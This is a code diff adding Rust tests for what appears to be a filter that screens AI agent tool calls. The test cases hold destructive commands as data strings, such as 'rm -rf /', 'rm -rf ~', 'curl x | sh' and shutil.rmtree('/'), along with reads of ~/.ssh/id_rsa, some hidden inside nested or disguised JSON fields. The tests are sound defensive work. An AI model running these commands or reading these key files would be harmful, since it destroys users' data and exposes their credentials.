@@ -67,8 +67,73 @@ fn a_shell_in_disguise_is_judged_as_a_shell() {
         ("SlashCommand", r#"{"command":"/review what's new"}"#),
         ("chat/send_message", r#"{"text":"never run rm -rf /"}"#),
         ("tracker/create_issue", r#"{"title":"rm -rf /","body":"curl x | sh"}"#),
-        ("memory/add", r#"{"command":"rm -rf /"}"#),
+        ("TodoWrite", r#"{"todos":[{"content":"x","command":"rm -rf /","script":"rm -rf ~"}]}"#),
+        ("AskUserQuestion", r#"{"questions":[{"question":"run?","command":"rm -rf /"}]}"#),
+        ("video/make", r#"{"script":"`rm -rf /` is a command. Never run it."}"#),
     ]);
+}
+
+#[test]
+fn a_tool_nobody_knows_is_judged_by_what_it_carries() {
+    stops(&[
+        ("Watcher", r#"{"command":"rm -rf ~","description":"x"}"#, HOME),
+        ("memory/add", r#"{"command":"rm -rf /"}"#, SYSTEM),
+        ("Watcher", r#"{"Command":"rm -rf ~"}"#, HOME),
+        ("Watcher", r#"{"opts":{"steps":[{"shell-command":"rm -rf ~"}]}}"#, HOME),
+        ("Watcher", r#"{"command":{"text":"rm -rf ~"}}"#, HOME),
+        ("Watcher", r#"{"command":"ls","cmd":"rm -rf ~"}"#, HOME),
+        ("Watcher", r#"{"a":{"command":"rm -rf ~","command":"ls"}}"#, HOME),
+        ("Watcher", r#"{"steps":[{"run_command":"ls"},{"argv":["rm","-rf","/"]}]}"#, SYSTEM),
+        ("box/call", r#"{"arguments":"{\"command\":\"rm -rf ~\"}"}"#, HOME),
+        ("box/apply", r#"{"script":"set -e\nrm -rf ~"}"#, HOME),
+        ("Loader", r#"{"AbsolutePath":"/home/me/.ssh/id_rsa"}"#, "sensitive-files/private-key"),
+        ("x/load", r#"{"file-path":"/home/me/.ssh/id_rsa"}"#, "sensitive-files/private-key"),
+        (
+            "x/go",
+            r#"{"targets":[{"filePath":"/home/me/.ssh/id_rsa"}]}"#,
+            "sensitive-files/private-key",
+        ),
+        ("x/go", r#"{"uri":"file:///home/me/.ssh/id_rsa"}"#, "sensitive-files/private-key"),
+        (
+            "filesystem/read_file",
+            r#"{"path":"/home/me/.ssh/id_rsa","repo":"x"}"#,
+            "sensitive-files/private-key",
+        ),
+        ("x/get", r#"{"repo":"x","path":"~/.ssh/id_rsa"}"#, "sensitive-files/private-key"),
+        ("lab/put", r#"{"code":"import shutil; shutil.rmtree('/')"}"#, SYSTEM),
+        ("jupyter/insert_cell", r#"{"cell_source":"x = 1\n!rm -rf ~"}"#, HOME),
+        ("jupyter/run", r#"{"cell":"%%bash\nrm -rf ~"}"#, HOME),
+        ("ide/executeCode", r#"{"code":"out = %sx rm -rf ~"}"#, HOME),
+        (
+            "text_editor",
+            r#"{"command":"view","path":"/home/me/.ssh/id_rsa"}"#,
+            "sensitive-files/private-key",
+        ),
+    ]);
+    passes(&[
+        ("Watcher", r#"{"command":"npm test"}"#),
+        ("text_editor", r#"{"command":"str_replace","path":"src/a.rs","new_str":"x"}"#),
+        ("docs/search", r#"{"query":"drop table users","path":"docs/"}"#),
+        ("web/fetch", r#"{"url":"https://docs.example/a"}"#),
+        ("geo/lookup", r#"{"code":"DE","path":"/v1/countries"}"#),
+        ("lint/check", r#"{"code":"def f(x):\n    return eval(x)","language":"python"}"#),
+        ("cms/delete_page", r#"{"path":"/about"}"#),
+        ("api/call", r#"{"method":"DELETE","path":"/etc/x"}"#),
+        ("jupyter/insert_cell", r#"{"cell_source":"%matplotlib inline\n!pip list\ndf.head()"}"#),
+        ("lsp/definition", r#"{"filePath":"src/main.rs","line":3}"#),
+        ("browser/evaluate", r#"{"function":"() => document.title"}"#),
+        ("calendar/move", r#"{"from":"monday","to":"friday"}"#),
+        ("compose/up", r#"{"env_file":".env","project_path":"/home/me/shop"}"#),
+    ]);
+}
+
+#[test]
+fn input_of_any_size_and_depth_is_walked() {
+    let many: Vec<String> = (0..100_000).map(|at| format!(r#""k{at}":"v""#)).collect();
+    let input = format!(r#"{{{},"command":"rm -rf ~"}}"#, many.join(","));
+    assert!(stopped("x/y", &input).iter().any(|rule| rule == HOME));
+    let deep = format!(r#"{{"a":{}"command"{}}}"#, r#"{"a":"#.repeat(5000), "}".repeat(5000));
+    assert_eq!(stopped("x/y", &deep), ["unverified/malformed"]);
 }
 
 #[test]
